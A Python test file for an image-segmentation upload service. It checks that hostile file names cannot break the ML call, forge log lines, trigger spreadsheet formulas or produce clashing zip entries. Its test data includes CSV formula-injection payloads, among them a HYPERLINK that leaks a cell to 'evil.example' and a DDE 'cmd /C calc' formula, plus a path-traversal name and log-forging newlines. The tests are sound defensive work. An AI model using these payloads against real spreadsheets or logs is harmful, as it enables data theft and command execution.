"""Hostile names: whatever a user names an image or an upload, the ML call goes through,
the log cannot be forged, summary.csv runs no formula, and the result zip unpacks whole on
Windows, macOS and Linux, while the API and summary.json keep the name as it was given."""

from __future__ import annotations

import csv
import io
import json
import logging
import sys
import unicodedata
from urllib.parse import quote

import aiohttp
import pytest

from oilspill.logs import JsonFormatter, PlainFormatter
from oilspill.names import fold_key, header_filename, plain_message, portable_parts

from .conftest import archive_of, scene_png, tasks_of, upload, wait_finished, zip_bytes
from .procs import free_port, server_process, wait_http

WINDOWS_FORBIDDEN = set('<>:"|?*\\') | {chr(c) for c in range(32)}
DEVICES = {"CON", "PRN", "AUX", "NUL", *(f"COM{n}" for n in range(1, 10)),
           *(f"LPT{n}" for n in range(1, 10))}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# --- the ML call -------------------------------------------------------------------------

CONTROL_NAMES = ["bell\x07.png", "escape\x1b[31mred.png", "new\nline.png", "carriage\r.png",
                 "tab\there.png", 'quote"d.png', "semi;colon=1.png", "del\x7f.png",
                 "c1\x85\x9b.png", "rtl\u202egnp.exe.png", "sep\u2028line.png",
                 "ünïcödé 🛢.png", "no_extension"]


async def test_control_characters_in_names_do_not_break_the_ml_call(client):
    """The real stub gets a safe form of each name in its multipart header; every image is
    segmented, and the API keeps each name as it was."""
    files = {name: scene_png(40, 30, seed=i) for i, name in enumerate(CONTROL_NAMES)}
    status, body = await upload(client, zip_bytes(files))
    assert status == 202, body
    job = await wait_finished(client, body["job_id"])
    tasks = await tasks_of(client, body)
    assert set(tasks) == set(CONTROL_NAMES)
    assert job["done"] == len(CONTROL_NAMES), {n: t["error"] for n, t in tasks.items()}


@pytest.mark.parametrize(("name", "content_type", "expected"), [
    ("folder/scan\r\n01.png", "image/png", "scan_01.png"),
    ('a"b;c.PNG', "image/png", "a_b_c.png"),
    ("café.jpeg", "image/jpeg", "cafe.jpeg"),
    ("photo.jpg.exe", "image/jpeg", "photo.jpg.jpg"),
    ("🛢🛢.tif", "image/tiff", "image.tif"),
    ("..\\..\\evil.bmp", "image/bmp", "evil.bmp"),
    ("scene.tif.tile3.png", "image/png", "scene.tif.tile3.png"),
    ("x" * 300 + ".png", "image/png", "x" * 100 + ".png"),
    ("odd.\x00ext", "application/octet-stream", "odd.ext"),
])
def test_header_filename_is_ascii_and_keeps_the_type(name, content_type, expected):
    safe = header_filename(name, content_type)
    assert safe == expected
    assert safe.isascii() and safe.isprintable() and not set(safe) & set('"\\;/\r\n')


# --- the log -----------------------------------------------------------------------------

FORGED = "2030-01-01 00:00:00,000 INFO oilspill.worker"


@pytest.mark.parametrize("json_logs", [False, True], ids=["plain", "json"])
async def test_names_cannot_forge_log_lines(tmp_path, ml_url, json_logs):
    """A real server process: a newline in the upload's name (RFC 5987 filename*) and in a
    zip entry's name stays inside its own log line."""
    upload_name = f"up.zip\n{FORGED} FORGED-UPLOAD\r\x1b[2K\u2028"
    entry = f"in\n{FORGED} FORGED-ENTRY\u2029\x85.png"
    port = free_port()
    settings = {"OILSPILL_LOG_JSON": "1"} if json_logs else {}
    server = server_process(port, tmp_path / "data", ml_url, tmp_path, **settings)
    await server.start()
    try:
        base = f"http://127.0.0.1:{port}"
        await wait_http(f"{base}/healthz", server)
        boundary = "hostile-boundary"
        head = (f'--{boundary}\r\nContent-Disposition: form-data; name="file"; '
                f"filename*=UTF-8''{quote(upload_name)}\r\n"
                "Content-Type: application/zip\r\n\r\n").encode()
        data = head + zip_bytes({entry: scene_png()}) + f"\r\n--{boundary}--\r\n".encode()
        async with aiohttp.ClientSession() as session:
            async with session.post(f"{base}/api/upload/", data=data, headers={
                    "Content-Type": f"multipart/form-data; boundary={boundary}"}) as resp:
                assert resp.status == 202, await resp.text()
                job_id = (await resp.json())["job_id"]
            async with session.get(f"{base}/api/job/{job_id}") as resp:
                assert (await resp.json())["upload_name"] == upload_name
        await server.wait_for_line("FORGED-ENTRY", timeout_s=30)
        await server.wait_for_line("FORGED-UPLOAD", timeout_s=30)
    finally:
        await server.kill()
    forged = [line for line in server.lines if "FORGED-" in line]
    assert len(forged) >= 2
    for line in server.lines:
        assert not line.startswith(("2030", " 2030", "FORGED")), line
    if json_logs:
        messages = [json.loads(line)["message"] for line in forged]
        assert any(upload_name in m for m in messages)
        assert any(entry in m for m in messages)
        for line in forged:
            assert not set(line) & {"\u2028", "\u2029", "\x85", "\x1b", "\r"}
    else:
        assert any("up.zip\\n2030-01-01" in line and "\\r\\x1b[2K\\u2028" in line
                   for line in forged)
        assert any("in\\n2030-01-01" in line and "\\u2029\\x85.png" in line for line in forged)


def test_a_traceback_stays_under_its_record():
    """An exception's text may carry a name too: every further line is indented."""
    try:
        raise ValueError(f"bad name x\n{FORGED} FORGED")
    except ValueError:
        record = logging.LogRecord("oilspill.worker", logging.ERROR, __file__, 1,
                                   "job %s: failed on %s", ("j1", "a\nb"), sys.exc_info())
    plain = PlainFormatter().format(record)
    first, *rest = plain.split("\n")
    assert first.endswith("job j1: failed on a\\nb")
    assert rest and all(line.startswith("  ") for line in rest)
    assert f"  {FORGED} FORGED" in rest  # under the record, never a record of its own
    entry = json.loads(JsonFormatter().format(record))
    assert entry["message"] == "job j1: failed on a\nb"
    assert f"bad name x\n{FORGED} FORGED" in entry["error"]


# --- summary.csv -------------------------------------------------------------------------

FORMULA_NAMES = ['=HYPERLINK("https:evil.example?leak="&A1,"open me").png', "+1+2.png",
                 "-3+4.png", "@SUM(1+1)*cmd.png", "\tstart.png", "\rstart.png",
                 "=cmd|' /C calc'!A0.png", "mid\rdle=1.png", "lf\n=2.png"]


async def test_summary_csv_runs_no_formula(client):
    files = {name: scene_png(40, 30, seed=i) for i, name in enumerate(FORMULA_NAMES)}
    files["plain.png"] = scene_png(40, 30, seed=99)
    files["=broken.png"] = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40  # fails: an error cell too
    status, body = await upload(client, zip_bytes(files))
    assert status == 202, body
    await wait_finished(client, body["job_id"])
    with await archive_of(client, body["job_id"]) as zf:
        text = zf.read("summary.csv").decode()
        rows = json.loads(zf.read("summary.json"))
    cells = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(cells) == len(files)
    for row in cells:
        for column, value in row.items():
            assert not value.startswith(FORMULA_START), (column, value)
    by_name = {row["filename"]: row for row in cells}
    for name in FORMULA_NAMES:  # shown as given, behind a "'" where it starts a formula
        shown = f"'{name}" if name.startswith(FORMULA_START) else name
        assert by_name[shown]["status"] == "done"
    assert by_name["plain.png"]["zip_name"] == "plain"
    assert by_name["'=broken.png"]["status"] == "failed" and by_name["'=broken.png"]["error"]
    # summary.json is data, not a spreadsheet: the names as they were given.
    assert {row["filename"] for row in rows} == set(files)


# --- names inside the result zip ---------------------------------------------------------

CLASHING = ["Scene.png", "scene.png", "SCENE.PNG", "café.png",
            unicodedata.normalize("NFD", "café.png"), "x.png", "x.png/y.png", "z.png/y.png",
            "z.png", 'what<>:"|?*.png', "CON.png", "aux/inside.png", "Com1.tar.png",
            "trailing. /dots.png", "bell\x07.png", "nul", "north/a.png", "North/A.png",
            "Straße.png", "STRASSE.png"]


def folders_of(name: str) -> list[str]:
    parts = name.split("/")
    return ["/".join(parts[:i]) for i in range(1, len(parts))]


async def test_result_zip_names_are_one_file_each_on_every_desktop(client):
    files = {name: scene_png(40, 30, seed=i) for i, name in enumerate(CLASHING)}
    status, body = await upload(client, zip_bytes(files))
    assert status == 202, body
    job = await wait_finished(client, body["job_id"])
    assert job["done"] == len(CLASHING), job
    with await archive_of(client, body["job_id"]) as zf:
        entries = [n for n in zf.namelist() if "/" in n]
        rows = json.loads(zf.read("summary.json"))
    assert len(entries) == 3 * len(CLASHING)  # masks/, overlays/, spills/
    keys = [fold_key(n) for n in entries]
    assert len(set(keys)) == len(keys), "two entries are one file on Windows or macOS"
    folders = {fold_key(f) for n in entries for f in folders_of(n)}
    assert not folders & set(keys), "an entry is both a file and a folder"
    for name in entries:
        assert name == unicodedata.normalize("NFC", name)
        for part in name.split("/"):
            assert not set(part) & WINDOWS_FORBIDDEN, name
            assert part and not part.endswith((".", " ")), name
            assert part.split(".")[0].upper() not in DEVICES, name
    assert {row["filename"] for row in rows} == set(CLASHING)  # the originals, kept
    for row in rows:
        assert row["result"] == f"masks/{row['zip_name']}.png"
        assert row["overlay"] == f"overlays/{row['zip_name']}.png"
    by_name = {row["filename"]: row["zip_name"] for row in rows}
    assert by_name["Scene.png"] == "Scene" and by_name["scene.png"] == "scene~2"
    # masks/x.png is a file, so the folder masks/x.png/ cannot be; either order.
    assert by_name["x.png"] == "x" and by_name["x.png/y.png"] == "x.png~2/y"
    assert by_name["z.png/y.png"] == "z.png/y" and by_name["z.png"] == "z~2"
    assert by_name["CON.png"] == "_CON" and by_name["aux/inside.png"] == "_aux/inside"
    assert by_name['what<>:"|?*.png'] == "what_______"
    assert by_name["trailing. /dots.png"] == "trailing/dots"


async def test_a_file_and_a_folder_of_one_name_in_the_zip(client):
    """`x.png` has its mask at masks/x.png; `X.PNG/inner.png` would need a folder of that
    name (on Windows and macOS): the folder is renamed, the file stays."""
    files = {"x.png": scene_png(40, 30, seed=1), "X.PNG/inner.png": scene_png(40, 30, seed=2)}
    status, body = await upload(client, zip_bytes(files))
    assert status == 202, body
    await wait_finished(client, body["job_id"])
    with await archive_of(client, body["job_id"]) as zf:
        rows = {row["filename"]: row["zip_name"] for row in json.loads(zf.read("summary.json"))}
    assert rows == {"x.png": "x", "X.PNG/inner.png": "X.PNG~2/inner"}


@pytest.mark.parametrize(("path", "expected"), [
    ("a/b/c.png", ["a", "b", "c.png"]),
    ("a\\b.png", ["a", "b.png"]),
    ("/abs//./x.png", ["abs", "x.png"]),
    ("CON", ["_CON"]), ("con.txt", ["_con.txt"]), ("COM\u00b9.png", ["_COM\u00b9.png"]),
    ("lpt9 .png", ["_lpt9 .png"]), ("CONSOLE.png", ["CONSOLE.png"]),
    ("dots...", ["dots"]), ("spaces   ", ["spaces"]), ("...", ["_"]), ("", ["_"]),
    ('a<b>c:d"e|f?g*h.png', ["a_b_c_d_e_f_g_h.png"]),
    ("tab\tnew\nline.png", ["tab_new_line.png"]),
    (unicodedata.normalize("NFD", "é.png"), ["é.png"]),
    ("é" * 150 + ".png", ["é" * 98 + ".png"]),
])
def test_portable_parts(path, expected):
    assert portable_parts(path) == expected


def test_fold_key_joins_what_desktops_join():
    assert fold_key("Scene.PNG") == fold_key("scene.png")
    assert fold_key("café") == fold_key(unicodedata.normalize("NFD", "CAFÉ"))
    assert fold_key("a/b") != fold_key("a/c")


@pytest.mark.parametrize(("text", "expected"), [
    ("cannot identify image file '/srv/ml/x.png'", "cannot identify image file"),
    ("cannot identify image file <_io.BytesIO object at 0x7f12ab>", "cannot identify image file"),
    ('bad file "C:\\Temp\\a b.png" here', "bad file here"),
    ("line one\nline two\r\x1b[31m", "line one line two [31m"),
    ("width and/or height 24/7", "width and/or height 24/7"),
    ("x" * 400, "x" * 297 + "..."),
])
def test_plain_message(text, expected):
    assert plain_message(text) == expected

